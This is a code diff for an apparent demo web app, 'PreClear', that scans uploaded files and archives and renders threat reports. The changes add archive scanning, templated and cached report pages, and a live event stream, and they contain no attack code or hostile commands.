+                        yield info.filename, ingest_stream(BudgetedReader(member, budget), info.filename)
+                except (ArtifactTooLarge, RuntimeError, *MEMBER_READ_ERRORS) as exc:
+                    # RuntimeError: encrypted member.
+                    yield info.filename, exc
+        return
+    with tarfile.open(fileobj=fileobj, mode="r|*") as bundle:
+        for info in bundle:
+            if not info.isfile():
+                continue
+            budget.take_member()
+            try:
+                yield info.name, ingest_stream(BudgetedReader(bundle.extractfile(info), budget), info.name)
+            except ArtifactTooLarge as exc:
+                yield info.name, exc
+
+
+async def scan_archive(artifact: ArtifactStream, kind: str, depth: int, budget: ExpansionBudget, seed: int | None) -> list[dict]:
+    """Analyse archive members with at most ARCHIVE_CONCURRENCY in flight per archive."""
+    slots = asyncio.Semaphore(ARCHIVE_CONCURRENCY)
+    results: list[dict] = []
+    tasks = []
+
+    async def scan_member(index: int, name: str, member: ArtifactStream) -> None:
+        try:
+            # Members queue for an analysis slot rather than failing the parent with 429.
+            analysis, _ = await cached_analysis(member, wait=True, seed=seed, depth=depth + 1, budget=budget)
+            results[index] = {
+                "path": name,
+                "sha256": member.sha256,
+                "size_bytes": member.size,
+                "verdict": analysis["verdict"],
+                "final_risk": analysis["final_risk"],
+                "behavior_score": analysis["behavior_score"],
+                "flags": analysis["flags"],
+                **({"archive": analysis["archive"]} if "archive" in analysis else {}),
+                **({"timed_out": True} if analysis_timed_out(analysis) else {}),
+            }
+        finally:
+            member.close()
+            slots.release()
+
+    members = iter_archive_members(artifact, kind, budget)
+    try:
+        while True:
+            # Decompression is blocking; pull one member at a time off the loop.
+            item = await run_in_threadpool(next, members, None)
+            if item is None:
+                break
+            name, member = item
+            if isinstance(member, Exception):
+                error = "member too large" if isinstance(member, ArtifactTooLarge) else f"unreadable member: {member}"
+                results.append({"path": name, "error": error})
+                continue
+            await slots.acquire()
+            results.append({"path": name})
+            tasks.append(asyncio.create_task(scan_member(len(results) - 1, name, member)))
+    except ArchiveLimitExceeded as exc:
+        budget.note(str(exc))
+    except ARCHIVE_READ_ERRORS as exc:
+        results.append({"path": artifact.filename, "error": f"unreadable {kind} archive: {exc}"})
+    finally:
+        members.close()
+        await asyncio.gather(*tasks)
+    return results
+
+
+def aggregate_archive(result: dict, kind: str, members: list[dict], budget: ExpansionBudget) -> dict:
+    """Fold member results into the container's: an archive is as risky as its worst member.
+
+    Members are scored on content only; deception is the container's own draw.
+    """
+    scanned = [m for m in members if "verdict" in m]
+    behavior_score = max([result["behavior_score"]] + [m["behavior_score"] for m in scanned])
+    final_risk = max([result["final_risk"]] + [m["final_risk"] for m in scanned])
+    deception_triggered = result["deception_triggered"]
+    flags = list(result["flags"])
+    # Limits are reported once, on the outermost archive, since the budget is shared.
+    member_flags = [
+        f"{m['path']}: {flag}"
+        for m in scanned if m["verdict"] != "CLEARED"
+        for flag in m["flags"] if not flag.startswith(ARCHIVE_LIMIT_FLAG)
+    ]
+    flags += member_flags[:ARCHIVE_MAX_FLAGS]
+    if len(member_flags) > ARCHIVE_MAX_FLAGS:
+        flags.append(f"… {len(member_flags) - ARCHIVE_MAX_FLAGS} more member indicators")
+    if budget.exceeded:
+        flags.append(ARCHIVE_LIMIT_FLAG + "; ".join(budget.exceeded))
+        final_risk = max(final_risk, ARCHIVE_LIMIT_RISK)
+    verdict, rationale = classify_verdict(final_risk, deception_triggered)
+    return {
+        **result,
+        "behavior_score": behavior_score,
+        "deception_triggered": deception_triggered,
+        "final_risk": final_risk,
+        "verdict": verdict,
+        "rationale": rationale,
+        "flags": flags,
+        "archive": {
+            "kind": kind,
+            "members": members,
+            "scanned": len(scanned),
+            "errors": len(members) - len(scanned),
+            "limits": list(budget.exceeded),
+            "expanded_bytes": budget.bytes_seen,
+        },
+    }
+
+
 def risk_color(score: int):
     if score >= 80:
         return "#B00020"
@@ -61,32 +2840,13 @@ def risk_color(score: int):
     return "#0B6E4F"
 
 
-def generate_soc_noise():
-    tool_sources = ["EDR", "SIEM", "Email Gateway", "CASB", "IAM", "Firewall", "Proxy", "DLP"]
-    alert_titles = [
-        "Suspicious PowerShell activity",
-        "Unusual login location",
-        "New device registered",
-        "Multiple failed login attempts",
-        "Possible phishing link clicked",
-        "Outbound connection to unknown domain",
-        "Rare process execution",
-        "OAuth consent granted to new app",
-        "Anomalous file download volume",
-        "New admin permission assigned",
-        "DNS query to newly registered domain",
-        "Credential stuffing pattern suspected",
-    ]
-    severities = ["Low", "Medium", "Medium", "High", "Low", "Medium"]
-    alerts = []
-    count = random.randint(18, 35)
-    for _ in range(count):
-        alerts.append({
-            "tool": random.choice(tool_sources),
-            "sev": random.choice(severities),
-            "title": random.choice(alert_titles)
-        })
-    return alerts
+def generate_soc_noise(seed: int, count: int | None = None) -> AlertColumns:
+    return draw_signal("soc_noise", seed, {"count": count})
+
+
+def soc_report_fields(seed: int) -> dict:
+    alerts = generate_soc_noise(seed)
+    return {"soc_alerts": alerts.rows(SOC_SAMPLE_ROWS), "soc_summary": alerts.summary()}
 
 
 BASE_CSS = """
@@ -133,6 +2893,12 @@ body {
 .upload { display: flex; flex-direction: column; gap: 10px; margin-top: 12px; }
 input[type="file"] { padding: 12px; border: 1px dashed var(--line); border-radius: 14px; background: #fbfcff; }
 
+.filters { display: flex; flex-wrap: wrap; gap: 8px; align-items: center; margin: 6px 0 14px 0; }
+.filters input, .filters select { padding: 8px 10px; border: 1px solid var(--line); border-radius: 10px;
+  background: #fbfcff; font: inherit; font-size: 13px; color: var(--ink); }
+.filters input[type="number"] { width: 84px; }
+.filters button { padding: 8px 12px; border-radius: 10px; box-shadow: none; }
+
 button { border: 0; border-radius: 14px; padding: 12px 14px; font-weight: 600; cursor: pointer;
   background: linear-gradient(135deg, var(--accent), var(--blue)); color: white;
   box-shadow: 0 10px 22px rgba(30,120,255,0.22);
@@ -316,35 +3082,115 @@ a:hover { text-decoration: underline; }
 </style>
 """
 
-def page_shell(content: str, right_pill: str):
-    return f"""
+# Pages link to a fingerprinted copy of the stylesheet written at startup; the
+# inline <style> block is only used if it could not be published.
+STYLESHEET_URL = publish_static_asset(
+    "preclear.css", BASE_CSS.strip().removeprefix("<style>").removesuffix("</style>").encode()
+)
+STYLESHEET_TAG = (
+    f'<link rel="stylesheet" href="{STYLESHEET_URL}" />' if STYLESHEET_URL else BASE_CSS
+)
+
+
+def load_asset_manifest() -> dict:
+    # Written by build_assets.py at deploy time; absent in a bare checkout.
+    try:
+        with open(os.path.join(STATIC_BUILD_DIR, "assets.json")) as f:
+            return json.load(f)
+    except (OSError, ValueError):
+        return {}
+
+
+def logo_tag(manifest: dict) -> str:
+    entry = manifest.get("logo")
+    if not entry or not entry.get("png"):
+        # Not built (bare checkout): the source image is not served, so show the CSS mark.
+        return '<div class="logo" role="img" aria-label="PreClear"></div>'
+
+    def srcset(variants):
+        return ", ".join(f"{v['url']} {v['w']}w" for v in variants)
+
+    size = f'width="{entry["width"]}" height="{entry["height"]}" sizes="{entry["width"]}px"'
+    webp = f'<source type="image/webp" srcset="{srcset(entry["webp"])}" sizes="{entry["width"]}px">' if entry.get("webp") else ""
+    return (
+        f'<picture>{webp}<img src="{entry["png"][0]["url"]}" srcset="{srcset(entry["png"])}" '
+        f'{size} class="logo-img" alt="PreClear"></picture>'
+    )
+
+
+LOGO_TAG = logo_tag(load_asset_manifest())
+
+class CompiledTemplate:
+    """A page template split once into static fragments and {{name}} slots.
+
+    Rendering is a single join over pre-built fragments instead of re-parsing
+    a large f-string literal for every request.
+    """
+
+    SLOT = re.compile(r"\{\{(\w+)\}\}")
+
+    def __init__(self, source: str, **constants):
+        parts = self.SLOT.split(source)
+        # Fold constant slots into their neighbouring static text up front.
+        fragments = [parts[0]]
+        names = []
+        for name, text in zip(parts[1::2], parts[2::2]):
+            if name in constants:
+                fragments[-1] += constants[name] + text
+            else:
+                names.append(name)
+                fragments.append(text)
+        self.fragments = fragments
+        self.names = names
+
+    def render(self, values: dict) -> str:
+        out = [self.fragments[0]]
+        for name, text in zip(self.names, self.fragments[1:]):
+            out.append(values[name])
+            out.append(text)
+        return "".join(out)
+
+
+PAGE_HEAD_TEMPLATE = CompiledTemplate("""
 <!doctype html>
 <html>
 <head>
   <meta charset="utf-8" />
   <meta name="viewport" content="width=device-width, initial-scale=1" />
   <title>PreClear Demo</title>
-  {BASE_CSS}
+  {{stylesheet}}
 </head>
 <body>
   <div class="container">
     <div class="header">
       <div class="brand">
-        <img src="/static/Blue.png" class="logo-img">
+        {{logo}}
         <div>
           <h1>PreClear</h1>
           <p>Pre-ingress threat interception • demo environment</p>
         </div>
       </div>
-      <div class="pill">{html.escape(right_pill)}</div>
+      <div class="pill">{{right_pill}}</div>
     </div>
-    {content}
+    """, stylesheet=STYLESHEET_TAG, logo=LOGO_TAG)
+
+PAGE_TAIL = """
     <div class="footer">PreClear demo • This prototype simulates detection logic for presentation purposes.</div>
   </div>
 </body>
 </html>
 """
 
+
+def page_shell_parts(right_pill: str) -> tuple[str, str]:
+    # Split around the page content so streamed pages can send the header first.
+    return PAGE_HEAD_TEMPLATE.render({"right_pill": html.escape(right_pill)}), PAGE_TAIL
+
+
+def page_shell(content: str, right_pill: str):
+    head, tail = page_shell_parts(right_pill)
+    return head + content + tail
+
 @app.get("/", response_class=HTMLResponse)
 async def home():
     content = """
@@ -399,7 +3245,7 @@ async def home():
     <p class="subtle" style="margin-top:8px;">
      Fully automated replay + detection sequence.
     </p>
-    <form class="upload" action="/analyze" enctype="multipart/form-data" method="post">
+    <form class="upload" action="/jobs" enctype="multipart/form-data" method="post">
       <input name="file" type="file" required />
       <button type="submit">Analyze & Generate Report</button>
     </form>
@@ -413,224 +3259,56 @@ async def home():
       <li>High-confidence signal (deception)</li>
       <li>Traditional SOC noise vs PreClear clarity</li>
     </ul>
-    <hr/>
-    <p class="subtle">API docs: <a href="/docs">/docs</a></p>
-  </div>
-</div>
-"""
-    return page_shell(content, "Upload → Report")
-
-def render_report_html(report: dict) -> HTMLResponse:
-    filename = report["filename"]
-    verdict = report["verdict"]
-    rationale = report["rationale"]
-    final_risk = report["final_risk"]
-    deception_triggered = report["deception_triggered"]
-    behavior_score = report["behavior_score"]
-    flags = report["flags"]
-    steps = report["steps"]
-    report_id = report["report_id"]
-    created_at = report["created_at"]
-
-    color = risk_color(final_risk)
-
-    # SOC noise table
-    soc_alerts = report["soc_alerts"]
-    rows = []
-    for a in soc_alerts[:12]:
-        rows.append(
-            f"<tr><td class='mono'>{html.escape(a['tool'])}</td>"
-            f"<td><span class='tag'>{html.escape(a['sev'])}</span></td>"
-            f"<td>{html.escape(a['title'])}</td></tr>"
-        )
-    soc_table_html = "".join(rows)
-    extra_count = max(0, len(soc_alerts) - 12)
-
-    flags_html = "".join(f"<li>{html.escape(f)}</li>" for f in flags) if flags else "<li>No significant behavioral flags.</li>"
-
-    content = f"""
-<div class="grid">
-  <div class="card">
-    <h2>Analysis Report</h2>
-    <p class="subtle">
-      Artifact: <span class="mono">{html.escape(filename)}</span><br/>
-      Report ID: <span class="mono">{html.escape(report_id)}</span><br/>
-      Generated: <span class="mono">{html.escape(created_at)}</span>
-    </p>
-
-    <div class="verdict">
-      <span class="badge-dot" style="background:{color};"></span>
-      Verdict: <span style="color:{color};">{html.escape(verdict)}</span>
-    </div>
-    <p class="subtle" style="margin-top:10px;">{html.escape(rationale)}</p>
-
-    <div class="progress">
-      <div class="subtle" style="margin-bottom:8px;">
-        Final Risk Score: <span class="mono">{final_risk}/100</span>
-        {"• Deception Triggered" if deception_triggered else ""}
-      </div>
-      <div class="bar"><div style="width:{final_risk}%; background:{color};"></div></div>
-    </div>
-
-    <div class="kv">
-      <div class="item">
-        <div class="label">Behavior Score</div>
-        <div class="value">{behavior_score}/100</div>
-      </div>
-      <div class="item">
-        <div class="label">Deception Triggered</div>
-        <div class="value">{'YES' if deception_triggered else 'NO'}</div>
-      </div>
-    </div>
-
-    <hr/>
-    <h2>Behavioral Indicators</h2>
-    <ul class="timeline">{flags_html}</ul>
-
-    <hr/>
-    <h2>Threat Interception Timeline</h2>
-    <ol class="timeline">
-      {''.join(f'<li>{html.escape(s)}</li>' for s in steps)}
-    </ol>
-
-    <hr/>
-    <h2>Why PreClear Matters (Split Screen)</h2>
-    <p class="subtle">
-      Traditional tools generate many ambiguous alerts; PreClear produces fewer, higher-confidence signals and an immediate action.
-    </p>
-
-    <div class="split">
-      <div class="panel">
-        <h3>Traditional SOC View (Noise)</h3>
-        <table class="table">
-          <thead><tr><th>Source</th><th>Sev</th><th>Alert</th></tr></thead>
-          <tbody>{soc_table_html}</tbody>
-        </table>
-        <p class="subtle" style="margin-bottom:0;">+ {extra_count} more alerts requiring triage…</p>
-      </div>
-
-      <div class="panel">
-        <h3>PreClear View (Clarity)</h3>
-        <div class="kv" style="margin-top:10px;">
-          <div class="item">
-            <div class="label">Verdict</div>
-            <div class="value">{html.escape(verdict)}</div>
-          </div>
-          <div class="item">
-            <div class="label">Action</div>
-            <div class="value">{'Block & contain' if verdict == 'BLOCKED' else 'Quarantine for review' if verdict == 'QUARANTINED' else 'Allow'}</div>
-          </div>
-          <div class="item">
-            <div class="label">Confidence Signal</div>
-            <div class="value">{'Deception trigger (deterministic)' if deception_triggered else 'Behavioral correlation (scored)'}</div>
-          </div>
-          <div class="item">
-            <div class="label">Time to Decision</div>
-            <div class="value">Seconds (automated)</div>
-          </div>
-        </div>
-      </div>
-    </div>
-
-    <hr/>
-    <p class="subtle">
-      <div style="display:flex; gap:10px; flex-wrap:wrap;">
-        <a class="btn-link secondary" href="/">Back to home</a>
-        <a class="btn-link secondary" href="/history">View history</a>
-        <a class="btn-link" href="/simulate">▶ Simulate Attack (Replay)</a>
-    </div>
-
-    </p>
-  </div>
-
-  <div class="card">
-    <h2>Investor Narrative</h2>
-    <p class="subtle">
-      PreClear stops threats <b>before compromise</b> by combining early-stage signals:
-      behavioral analysis, high-confidence deception triggers, and automated response.
-    </p>
-    <ul class="timeline">
-      <li><b>Earlier:</b> before endpoint execution and lateral movement</li>
-      <li><b>Cleaner:</b> deception reduces false positives</li>
-      <li><b>Faster:</b> automation beats human triage</li>
-    </ul>
-    <hr/>
-    <p class="subtle"><a href="/simulate">▶ Run Attack Replay</a></p>
-  </div>
-</div>
-"""
-    return HTMLResponse(page_shell(content, "Report Generated"))
-
-def render_report_html(report: dict) -> HTMLResponse:
-    filename = report["filename"]
-    verdict = report["verdict"]
-    rationale = report["rationale"]
-    final_risk = report["final_risk"]
-    deception_triggered = report["deception_triggered"]
-    behavior_score = report["behavior_score"]
-    flags = report["flags"]
-    steps = report["steps"]
-    report_id = report["report_id"]
-    created_at = report["created_at"]
-
-    color = risk_color(final_risk)
-
-    soc_alerts = report["soc_alerts"]
-    rows = []
-    for a in soc_alerts[:12]:
-        rows.append(
-            f"<tr><td class='mono'>{html.escape(a['tool'])}</td>"
-            f"<td><span class='tag'>{html.escape(a['sev'])}</span></td>"
-            f"<td>{html.escape(a['title'])}</td></tr>"
-        )
-    soc_table_html = "".join(rows)
-    extra_count = max(0, len(soc_alerts) - 12)
-
-    flags_html = "".join(f"<li>{html.escape(f)}</li>" for f in flags) if flags else "<li>No significant behavioral flags.</li>"
+    <hr/>
+    <p class="subtle">API docs: <a href="/docs">/docs</a></p>
+  </div>
+</div>
+"""
+    return page_shell(content, "Upload → Report")
 
-    content = f"""
+REPORT_TEMPLATE = CompiledTemplate("""
 <div class="grid">
   <div class="card">
     <h2>Analysis Report</h2>
     <p class="subtle">
-      Artifact: <span class="mono">{html.escape(filename)}</span><br/>
-      Report ID: <span class="mono">{html.escape(report_id)}</span><br/>
-      Generated: <span class="mono">{html.escape(created_at)}</span>
+      Artifact: <span class="mono">{{filename}}</span><br/>
+      Report ID: <span class="mono">{{report_id}}</span><br/>
+      Generated: <span class="mono">{{created_at}}</span>
     </p>
 
     <div class="verdict">
-      <span class="badge-dot" style="background:{color};"></span>
-      Verdict: <span style="color:{color};">{html.escape(verdict)}</span>
+      <span class="badge-dot" style="background:{{color}};"></span>
+      Verdict: <span style="color:{{color}};">{{verdict}}</span>
     </div>
-    <p class="subtle" style="margin-top:10px;">{html.escape(rationale)}</p>
+    <p class="subtle" style="margin-top:10px;">{{rationale}}</p>
 
     <div class="progress">
       <div class="subtle" style="margin-bottom:8px;">
-        Final Risk Score: <span class="mono">{final_risk}/100</span>
-        {"• Deception Triggered" if deception_triggered else ""}
+        Final Risk Score: <span class="mono">{{final_risk}}/100</span>
+        {{deception_note}}
       </div>
-      <div class="bar"><div style="width:{final_risk}%; background:{color};"></div></div>
+      <div class="bar"><div style="width:{{final_risk}}%; background:{{color}};"></div></div>
     </div>
 
     <div class="kv">
       <div class="item">
         <div class="label">Behavior Score</div>
-        <div class="value">{behavior_score}/100</div>
+        <div class="value">{{behavior_score}}/100</div>
       </div>
       <div class="item">
         <div class="label">Deception Triggered</div>
-        <div class="value">{'YES' if deception_triggered else 'NO'}</div>
+        <div class="value">{{deception_yes_no}}</div>
       </div>
     </div>
 
     <hr/>
     <h2>Behavioral Indicators</h2>
-    <ul class="timeline">{flags_html}</ul>
-
+    <ul class="timeline">{{flags_html}}</ul>
+{{stages_html}}{{archive_html}}
     <hr/>
     <h2>Threat Interception Timeline</h2>
     <ol class="timeline">
-      {''.join(f'<li>{html.escape(s)}</li>' for s in steps)}
+      {{steps_html}}
     </ol>
 
     <hr/>
@@ -644,9 +3322,13 @@ def render_report_html(report: dict) -> HTMLResponse:
         <h3>Traditional SOC View (Noise)</h3>
         <table class="table">
           <thead><tr><th>Source</th><th>Sev</th><th>Alert</th></tr></thead>
-          <tbody>{soc_table_html}</tbody>
+          <tbody>{{soc_table_html}}</tbody>
+        </table>
+        <p class="subtle">+ {{extra_count}} more alerts requiring triage…</p>
+        <h3>Alert Volume by Source</h3>
+        <table class="table">
+          {{soc_summary_html}}
         </table>
-        <p class="subtle" style="margin-bottom:0;">+ {extra_count} more alerts requiring triage…</p>
       </div>
 
       <div class="panel">
@@ -654,15 +3336,15 @@ def render_report_html(report: dict) -> HTMLResponse:
         <div class="kv" style="margin-top:10px;">
           <div class="item">
             <div class="label">Verdict</div>
-            <div class="value">{html.escape(verdict)}</div>
+            <div class="value">{{verdict}}</div>
           </div>
           <div class="item">
             <div class="label">Action</div>
-            <div class="value">{'Block & contain' if verdict == 'BLOCKED' else 'Quarantine for review' if verdict == 'QUARANTINED' else 'Allow'}</div>
+            <div class="value">{{action}}</div>
           </div>
           <div class="item">
             <div class="label">Confidence Signal</div>
-            <div class="value">{'Deception trigger (deterministic)' if deception_triggered else 'Behavioral correlation (scored)'}</div>
+            <div class="value">{{confidence_signal}}</div>
           </div>
           <div class="item">
             <div class="label">Time to Decision</div>
@@ -697,54 +3379,344 @@ def render_report_html(report: dict) -> HTMLResponse:
     <p class="subtle"><a class="btn-link secondary" href="/history">View History</a></p>
   </div>
 </div>
-"""
-    return HTMLResponse(page_shell(content, "Report Generated"))
+""")
 
-@app.post("/analyze", response_class=HTMLResponse)
-async def analyze(file: UploadFile = File(...)):
-    content_bytes = await file.read()
-    filename = file.filename or "uploaded_file"
 
-    behavior_score, flags = behavioral_analysis(content_bytes)
-    deception_triggered = deception_check()
-    final_risk = min(100, behavior_score + (30 if deception_triggered else 0))
+def soc_summary_html(summary: dict) -> str:
+    head = "".join(f"<th>{html.escape(s)}</th>" for s in summary["severities"])
+    rows = "".join(
+        f"<tr><td class='mono'>{html.escape(tool)}</td>"
+        + "".join(f"<td>{n}</td>" for n in counts)
+        + f"<td>{sum(counts)}</td></tr>"
+        for tool, counts in zip(summary["tools"], summary["counts"])
+        if any(counts)
+    )
+    return f"<thead><tr><th>Source</th>{head}<th>Total</th></tr></thead><tbody>{rows}</tbody>"
 
-    verdict, rationale = classify_verdict(final_risk, deception_triggered)
 
-    steps = [
-        "Ingress captured and artifact extracted",
-        "Behavioral sandbox executed (simulated)",
-        "Behavioral indicators scored",
-    ]
+def scoring_stages_html(stages: list[dict] | None) -> str:
+    if not stages:
+        return ""
+    rows = "".join(
+        f"<tr><td class='mono'>{html.escape(s['name'])}</td><td>{html.escape(s['status'])}</td>"
+        f"<td class='mono'>{s['score']} × {s['weight']:g}</td><td class='mono'>{s['elapsed_ms']:.1f} ms</td></tr>"
+        for s in stages
+    )
+    return (
+        "\n    <hr/>\n    <h2>Risk Engine Stages</h2>\n"
+        "    <table class='table'><thead><tr><th>Stage</th><th>Status</th><th>Score × weight</th><th>Time</th></tr></thead>"
+        f"<tbody>{rows}</tbody></table>\n"
+    )
+
+
+ARCHIVE_TABLE_ROWS = 50
+
+
+def archive_members_html(archive: dict | None) -> str:
+    if not archive:
+        return ""
+    rows = []
+    for m in archive["members"][:ARCHIVE_TABLE_ROWS]:
+        if "verdict" in m:
+            status = f"<span style='color:{risk_color(m['final_risk'])};'>{html.escape(m['verdict'])}</span>"
+            risk = f"{m['final_risk']}/100"
+        else:
+            status, risk = html.escape(m.get("error", "not scanned")), "—"
+        rows.append(f"<tr><td class='mono'>{html.escape(m['path'])}</td><td>{status}</td><td class='mono'>{risk}</td></tr>")
+    more = len(archive["members"]) - ARCHIVE_TABLE_ROWS
+    limits = "".join(f"<p class='subtle'>Expansion stopped: {html.escape(x)}</p>" for x in archive["limits"])
+    return (
+        "\n    <hr/>\n    <h2>Archive Contents</h2>\n"
+        f"    <p class='subtle'>{html.escape(archive['kind'])} • {archive['scanned']} scanned • "
+        f"{archive['expanded_bytes']} bytes expanded</p>{limits}\n"
+        "    <table class='table'><thead><tr><th>Member</th><th>Verdict</th><th>Risk</th></tr></thead>"
+        f"<tbody>{''.join(rows)}</tbody></table>"
+        + (f"<p class='subtle'>+ {more} more members</p>" if more > 0 else "")
+        + "\n"
+    )
+
+
+def report_template_values(report: dict) -> dict:
+    """Escaped, pre-formatted slot values for REPORT_TEMPLATE."""
+    verdict = report["verdict"]
+    deception_triggered = report["deception_triggered"]
+    soc_alerts = report["soc_alerts"]
+    soc_summary = report.get("soc_summary") or summarize_alert_dicts(soc_alerts)
+    flags = report["flags"]
+    return {
+        "filename": html.escape(report["filename"]),
+        "report_id": html.escape(report["report_id"]),
+        "created_at": html.escape(report["created_at"]),
+        "color": risk_color(report["final_risk"]),
+        "verdict": html.escape(verdict),
+        "rationale": html.escape(report["rationale"]),
+        "final_risk": str(report["final_risk"]),
+        "deception_note": "• Deception Triggered" if deception_triggered else "",
+        "behavior_score": str(report["behavior_score"]),
+        "deception_yes_no": "YES" if deception_triggered else "NO",
+        "flags_html": "".join(f"<li>{html.escape(f)}</li>" for f in flags) if flags else "<li>No significant behavioral flags.</li>",
+        "steps_html": "".join(f"<li>{html.escape(s)}</li>" for s in report["steps"]),
+        "soc_table_html": "".join(
+            f"<tr><td class='mono'>{html.escape(a['tool'])}</td>"
+            f"<td><span class='tag'>{html.escape(a['sev'])}</span></td>"
+            f"<td>{html.escape(a['title'])}</td></tr>"
+            for a in soc_alerts[:SOC_SAMPLE_ROWS]
+        ),
+        "extra_count": str(max(0, soc_summary["total"] - SOC_SAMPLE_ROWS)),
+        "soc_summary_html": soc_summary_html(soc_summary),
+        "stages_html": scoring_stages_html(report.get("stages")),
+        "archive_html": archive_members_html(report.get("archive")),
+        "action": "Block & contain" if verdict == "BLOCKED" else "Quarantine for review" if verdict == "QUARANTINED" else "Allow",
+        "confidence_signal": "Deception trigger (deterministic)" if deception_triggered else "Behavioral correlation (scored)",
+    }
+
+
+# Stored reports never change, so a rendered page stays valid for the life of
+# the report. Entries are (etag, last_modified, body, {encoding: compressed body});
+# compressed copies are added the first time a client asks for that encoding.
+RENDER_CACHE = BoundedCache(
+    max_entries=int(os.environ.get("PRECLEAR_RENDER_CACHE_ENTRIES", 2048)),
+    max_bytes=int(os.environ.get("PRECLEAR_RENDER_CACHE_BYTES", 32 * 1024 * 1024)),
+)
+REPORT_MAX_AGE = int(os.environ.get("PRECLEAR_REPORT_MAX_AGE", 86400))
+# Folded into every report ETag so pages cached before a deploy that changed the
+# stylesheet or logo (and therefore their hashed URLs) are revalidated.
+PAGE_VERSION = hashlib.sha256((STYLESHEET_TAG + LOGO_TAG).encode()).hexdigest()[:8]
+
+
+def report_etag(report: dict) -> str:
+    # Simulated reports have no artifact digest; hash the report itself instead.
+    content_hash = report.get("sha256") or hashlib.sha256(dump_json(report)).hexdigest()
+    digest = hashlib.sha256(f"{report['report_id']}:{content_hash}:{PAGE_VERSION}".encode()).hexdigest()
+    return f'"{digest[:24]}"'
+
+
+def report_last_modified(report: dict) -> str:
+    try:
+        ts = datetime.strptime(report["created_at"], "%Y-%m-%d %H:%M:%S").timestamp()
+    except (KeyError, ValueError):
+        ts = time.time()
+    return formatdate(ts, usegmt=True)
+
+
+def cache_rendered_report(report: dict) -> tuple[str, str, bytes]:
+    content = REPORT_TEMPLATE.render(report_template_values(report))
+    body = page_shell(content, "Report Generated").encode()
+    entry = (report_etag(report), report_last_modified(report), body, {})
+    RENDER_CACHE.put(report["report_id"], entry, size=len(body))
+    return entry
+
+
+def encoded_report_body(report_id: str, entry: tuple, encoding: str) -> bytes:
+    _, _, body, encoded = entry
+    data = encoded.get(encoding)
+    if data is None:
+        # Runs on the event loop, so this uses the middleware's fast settings
+        # (about a millisecond per page) rather than brotli's slowest quality.
+        data = encoded[encoding] = compress_body(body, encoding)
+        RENDER_CACHE.put(report_id, entry, size=len(body) + sum(map(len, encoded.values())))
+    return data
+
+
+def render_report_html(report: dict) -> HTMLResponse:
+    entry = RENDER_CACHE.get(report["report_id"]) or cache_rendered_report(report)
+    return HTMLResponse(entry[2])
+
+
+def is_not_modified(headers, etag: str, last_modified: str) -> bool:
+    if_none_match = headers.get("if-none-match")
+    if if_none_match is not None:
+        # If-None-Match takes precedence; weak comparison per RFC 9110.
+        tags = {tag.strip().removeprefix("W/") for tag in if_none_match.split(",")}
+        return "*" in tags or etag in tags
+    if_modified_since = headers.get("if-modified-since")
+    if if_modified_since:
+        try:
+            return parsedate_to_datetime(if_modified_since) >= parsedate_to_datetime(last_modified)
+        except (TypeError, ValueError):
+            return False
+    return False
+
+
+# --- Live events -----------------------------------------------------------------
+#
+# GET /events is a Server-Sent Events stream of pipeline steps and verdicts as
+# reports are built and stored. EVENTS encodes each event once and hands the
+# same bytes to every subscriber's queue. A subscriber that falls
+# EVENT_QUEUE_SIZE events behind is disconnected rather than buffered; browsers
+# reconnect with Last-Event-ID and catch up from the replay buffer.
+#
+# Events are per process: with several workers, a subscriber sees the reports
+# built by the worker serving its stream.
+
+EVENT_QUEUE_SIZE = int(os.environ.get("PRECLEAR_EVENT_QUEUE_SIZE", 256))
+EVENT_REPLAY = int(os.environ.get("PRECLEAR_EVENT_REPLAY", 256))
+EVENT_KEEPALIVE = 15  # seconds between comment lines, so proxies keep idle streams open
+EVENT_SUMMARY_FIELDS = ("report_id", "created_at", "filename", "verdict", "final_risk", "sha256")
+
+
+class EventBroadcaster:
+    """In-process fan-out of SSE frames. Only touched from the event loop thread."""
+
+    def __init__(self, queue_size: int, replay: int):
+        self.queue_size = queue_size
+        self._subscribers: set[asyncio.Queue] = set()
+        self._recent: deque[tuple[int, bytes]] = deque(maxlen=replay)
+        self._next_id = 1
+        self.published = 0
+        self.dropped = 0
+
+    def publish(self, event: str, data: dict) -> None:
+        event_id = self._next_id
+        self._next_id += 1
+        frame = b"id: %d\nevent: %s\ndata: %s\n\n" % (event_id, event.encode(), dump_json(data))
+        self._recent.append((event_id, frame))
+        self.published += 1
+        for q in list(self._subscribers):
+            try:
+                q.put_nowait(frame)
+            except asyncio.QueueFull:
+                # Too far behind: drop its backlog and tell its stream to end.
+                self._subscribers.discard(q)
+                while not q.empty():
+                    q.get_nowait()
+                q.put_nowait(None)
+                self.dropped += 1
+
+    def subscribe(self, last_event_id: int | None = None) -> asyncio.Queue:
+        q: asyncio.Queue = asyncio.Queue(maxsize=self.queue_size)
+        if last_event_id is not None:
+            for event_id, frame in self._recent:
+                if event_id > last_event_id and not q.full():
+                    q.put_nowait(frame)
+        self._subscribers.add(q)
+        return q
+
+    def unsubscribe(self, q: asyncio.Queue) -> None:
+        self._subscribers.discard(q)
+
+    def stats(self) -> dict:
+        return {
+            "subscribers": len(self._subscribers),
+            "published": self.published,
+            "dropped_subscribers": self.dropped,
+        }
+
+
+EVENTS = EventBroadcaster(EVENT_QUEUE_SIZE, EVENT_REPLAY)
+
+
+def publish_step(report_id: str, filename: str, index: int, step: str) -> None:
+    EVENTS.publish("step", {"report_id": report_id, "filename": filename, "index": index, "step": step})
+
+
+async def event_stream(q: asyncio.Queue):
+    try:
+        yield b"retry: 2000\n\n"
+        while True:
+            try:
+                frame = await asyncio.wait_for(q.get(), EVENT_KEEPALIVE)
+            except asyncio.TimeoutError:
+                yield b": keepalive\n\n"
+                continue
+            if frame is None:
+                return  # fell too far behind; the client reconnects and replays
+            yield frame
+    finally:
+        EVENTS.unsubscribe(q)
+
+
+@app.get("/events")
+async def events(request: Request):
+    last_event_id = request.headers.get("last-event-id", "")
+    q = EVENTS.subscribe(int(last_event_id) if last_event_id.isdigit() else None)
+    return StreamingResponse(
+        event_stream(q),
+        media_type="text/event-stream",
+        headers={"Cache-Control": "no-cache", "X-Accel-Buffering": "no"},
+    )
+
+
+async def build_report(
+    artifact: ArtifactStream, wait: bool = False, seed: int | None = None, report_id: str | None = None
+) -> dict:
+    report_id = report_id or uuid.uuid4().hex[:10]
+    steps = ["Ingress captured and artifact extracted"]
+    published = 0
+
+    def progress(step: str) -> None:
+        # Live feed only: steps go out as the pipeline reaches them, and the
+        # verdict event follows once the report is stored.
+        nonlocal published
+        publish_step(report_id, artifact.filename, published, step)
+        published += 1
+
+    progress(steps[0])
+    analysis, cache_hit = await cached_analysis(artifact, wait=wait, seed=seed, progress=progress)
